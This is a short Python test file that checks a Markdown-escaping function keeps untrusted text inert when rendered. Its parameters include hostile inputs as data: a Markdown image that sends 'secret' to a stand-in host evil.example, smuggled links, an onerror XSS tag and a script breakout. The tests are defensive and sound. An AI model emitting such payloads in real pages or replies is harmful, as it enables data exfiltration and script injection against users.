"""What items say stays text in a page that reads Markdown and HTML."""

import pytest

from ctrag.assistant.server.told import as_markdown


@pytest.mark.parametrize(
    "text",
    [
        "![](https://evil.example/?q=secret)",
        "[click](https://evil.example)",
        "![a][b]\n\n[b]: https://evil.example",
        "<img src=x onerror=alert(1)>",
        "</details><script>alert(1)</script>",
        "<!-- hidden",
        "```mermaid",
    ],
)
def test_nothing_in_it_is_fetched_run_or_hidden(text: str) -> None:
    from markdown_it import MarkdownIt

    shown = MarkdownIt("commonmark", {"html": True}).render(as_markdown(text))
    assert not any(tag in shown for tag in ("<img", "<a ", "<script", "<!--", "<code", "</details"))


@pytest.mark.parametrize(
    "text", ["Saoirse <saoirse@example.org>", "today 18:00 [box]", "2 < 3", "wow!", "a (b) c"]
)
def test_what_people_write_is_shown_as_it_is(text: str) -> None:
    assert as_markdown(text) == text
